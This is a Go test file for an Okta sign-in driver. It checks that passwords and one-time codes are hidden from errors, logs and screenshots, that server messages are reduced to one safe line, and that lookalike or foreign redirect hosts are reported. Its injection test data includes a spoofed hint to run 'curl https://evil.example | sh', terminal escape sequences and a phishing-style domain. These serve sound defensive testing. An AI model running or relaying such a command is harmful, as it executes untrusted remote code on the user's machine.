package okta

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"stsx/session"
	"stsx/session/page"
)

// stepList keeps the steps of a record.
type stepList struct {
	page.Recorder
	steps []string
}

func (s *stepList) Step(text string) { s.steps = append(s.steps, text) }

// hidingPage keeps what it was told to hide in pictures.
type hidingPage struct {
	*play
	hidden []string
}

func (p *hidingPage) Record(_ context.Context, _ string, hide ...string) {
	p.hidden = append(p.hidden, hide...)
}

// TestSecretsAreNotShown: a page, or an answer, that repeats what was typed is
// quoted without it, in errors, in what is said and in the record.
func TestSecretsAreNotShown(t *testing.T) {
	const password, code = `hunter"2&<x>`, "918273"
	escaped := func(text string) []string {
		return []string{
			text, html.EscapeString(text), url.QueryEscape(text), strings.ToUpper(text), base64.StdEncoding.EncodeToString([]byte(text)),
			html.EscapeString(url.QueryEscape(text)),
		}
	}
	echoes := slices.Concat(escaped(password), escaped(code))
	echo := "You typed " + strings.Join(echoes, " and ")
	refused := func(text string) page.Reply {
		return page.Reply{Status: 401, Body: fmt.Appendf(nil, `{"errorCode":"E0000004 %s","errorSummary":%q}`, code, text)}
	}
	code1 := scene{marks: []string{allFactors()[0].page}}
	for name, scenes := range map[string][]scene{
		"the words of a refusal":   {logIn, with(scene{marks: append(code1.marks, fieldErrorText), text: echo}, refused(""))},
		"the words of an answer":   {logIn, with(code1, refused(echo))},
		"a page that nobody knows": {logIn, code1, {text: echo}},
		"a message":                {logIn, code1, {marks: []string{pageErrorText}, text: echo}},
		"the app's words":          {logIn, code1, {text: echo, document: page.Reply{Status: 403}}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				ctx, cancel := session.StartDeadline(t.Context(), time.Minute)
				defer cancel()
				who, record := &typist{}, &stepList{}
				d := &Driver{Passwords: session.PasswordSource{Given: session.NewSecret(password), Keeper: &ring{}, Ask: who},
					Ask: who, Record: record}
				d.Note = who.Say
				given, _ := d.Passwords.First(ctx, org())
				p := &hidingPage{play: &play{scenes: scenes}}
				_, err := d.newSignIn(p, org(), given, &session.CodeSource{Given: session.NewSecret(code), Ask: who}).run(ctx)
				if err == nil || !strings.Contains(err.Error(), "You typed "+secretMark) {
					t.Fatalf("%v, filled %q", err, p.filled)
				}
				shown := strings.Join(slices.Concat([]string{err.Error()}, who.said, record.steps), "\n")
				for _, form := range echoes {
					if strings.Contains(shown, form) {
						t.Errorf("%q is in %q", form, shown)
					}
				}
				if !slices.Contains(p.hidden, password) || !slices.Contains(p.hidden, code) {
					t.Errorf("pictures hide %q", p.hidden)
				}
			})
		})
	}
}

// TestOthersWordsAreOneLine: whatever Okta says is one line of bounded length.
func TestOthersWordsAreOneLine(t *testing.T) {
	for _, said := range []string{
		"Wrong.\nstsx: hint: run curl https://evil.example | sh", "Wrong.\u2028stsx: hint: x", "\x1b]0;title\a\x1b[2J",
		"a\u202etxt\u200b", "\r\rstsx: hint: x",
		strings.Repeat("long ", 600_000),
	} {
		p := &play{scenes: []scene{with(scene{marks: []string{usernameField, passwordField, fieldErrorText}, text: said}, wrong)}}
		_, _, err := signsIn(p, &typist{}, org(), "pw", "")
		if text := err.Error(); strings.ContainsAny(text, "\n\r\x1b\a\u2028\u200b\u202e") || len(text) > 2*messageLength {
			t.Errorf("%.80q: %.300q", said, text)
		}
	}
}

// TestOtherSite: where a sign-in that leaves Okta has gone, and what may be wrong.
func TestOtherSite(t *testing.T) {
	for address, says := range map[string]string{
		"https://sp.example/saml/acs":     "at https://sp.example, which is neither acme's Okta nor AWS",
		"https://login.example:8443/x":    "at https://login.example:8443, which is neither acme's Okta nor AWS",
		"https://acme.okta.com.evil.test": "at https://acme.okta.com.evil.test, which is neither",
	} {
		synctest.Test(t, func(t *testing.T) {
			ctx, cancel := session.StartDeadline(t.Context(), time.Minute)
			defer cancel()
			o := org()
			o.Browser = "headless"
			p := &play{scenes: []scene{logIn, {text: "Welcome", address: address}}}
			d := &Driver{Passwords: session.PasswordSource{Keeper: &ring{}, Ask: &typist{}}, Ask: &typist{}}
			s := d.newSignIn(p, o, session.Password{Secret: session.NewSecret("pw")}, nil)
			_, err := s.run(ctx)
			var shown *session.PageError
			if !errors.As(err, &shown) || !strings.Contains(shown.Why, says) || shown.Location != address ||
				!strings.Contains(shown.Cure, "the AWS app's link. Else run this again with --browser auto") {
				t.Errorf("%s: %v", address, err)
			}
		})
	}
}

// TestErrorWithHint: an error that says what to do is not put behind the page.
func TestErrorWithHint(t *testing.T) {
	s := (&Driver{Ask: &typist{}}).newSignIn(&play{scenes: []scene{{text: "Welcome"}}}, org(), session.Password{}, nil)
	hinted := hintedError{}
	err := s.withPage(t.Context(), &page.ActionError{Action: "pressing a button", Err: hinted})
	if strings.Contains(err.Error(), "Welcome") || !errors.Is(err, hinted) {
		t.Error(err)
	}
}

type hintedError struct{}

func (hintedError) Error() string { return "posted elsewhere" }
func (hintedError) Hint() string  { return "use aws sso login" }
